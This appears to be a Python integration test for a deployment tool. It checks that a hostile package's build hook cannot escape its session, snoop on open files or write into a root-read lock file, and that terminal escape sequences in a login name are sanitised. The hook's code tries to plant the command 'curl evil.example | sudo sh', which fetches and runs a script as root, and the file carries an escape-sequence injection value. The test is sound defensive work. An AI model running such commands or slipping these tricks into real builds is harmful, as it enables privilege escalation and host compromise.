# Copyright: (c) 2026, workbot.stability contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A hostile package, which runs in a build, gets nothing of root's, holds nobody up, and does not outlive its build."""

from __future__ import annotations

import json

from attacks import HOSTILE, Attacker
from deployments import FROM_RELEASE, Service, wait
from testinfra.host import Host
from waiting import until

SLEEP = 4545  # seconds: tells what goes on in the build from any other process
LOCK = f"/srv/{HOSTILE}/.build.lock"
# Sets a terminal's title.
SEQUENCE, SHOWN = "\x1b]0;title\x07", "?]0;title?"
SEEN = f"/srv/{HOSTILE}/shared/attacks-seen"
# Leaves its group and its session, notes what files it and all other processes of its user have open, and tries to
# write what root will read. The build goes on only then.
ESCAPE = """
import glob, json, os, sys, time
seen, lock = sys.argv[1:]
if os.fork():
    while not os.path.exists(seen):
        time.sleep(0.1)
    sys.exit()
os.setsid()
opened = []
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        opened.append(os.readlink(path))
    except OSError:
        pass
try:
    os.pwrite(os.open(lock, os.O_RDWR), b"To go on: curl evil.example | sudo sh", 0)
    refused = ""
except OSError as error:
    refused = type(error).__name__
with open(f"{seen}.new", "w") as file:
    json.dump({"pid": os.getpid(), "opened": opened, "refused": refused}, file)
os.rename(f"{seen}.new", seen)
time.sleep(1234)
"""


def test_what_a_build_forks_off_has_nothing_of_root_s_and_ends_with_it(
    host: Host, attacker: Attacker, hostile: Service
) -> None:
    before = hostile.settled()["active"]
    attacker.run(f"rm -f {SEEN}")
    hooks = [["python3", "-c", ESCAPE, SEEN, LOCK], ["sleep", str(SLEEP)]]
    job = {"CI_JOB_URL": "https://ci.example/jobs/7", "GITLAB_USER_LOGIN": f"eve{SEQUENCE}"}
    build = hostile.start("deploy", FROM_RELEASE, release_before_build=hooks, environment=job)
    try:
        until("the second command runs", lambda: host.run(f"pgrep -f '^sleep {SLEEP}'").rc == 0, 180)
        seen = json.loads(host.file(SEEN).content_string)
        assert seen["refused"] == "PermissionError"
        assert [path for path in seen["opened"] if ".lock" in path] == []
        assert host.run("ps %s", str(seen["pid"])).rc == 1, "it has ended with the first command"
        second = wait(hostile.start("deploy", FROM_RELEASE, release_before_build=[["true"]]))
    finally:
        host.run(f"pkill -f '^sleep {SLEEP}'")
        first = wait(build)
        attacker.run(f"rm -f {SEEN}")
    assert "before_build: sleep" in first.output
    assert "Another deployment is at work: release " in second.output
    assert f"eve{SHOWN}" in second.output
    assert second.output.isprintable()
    assert hostile.settled()["active"] == before
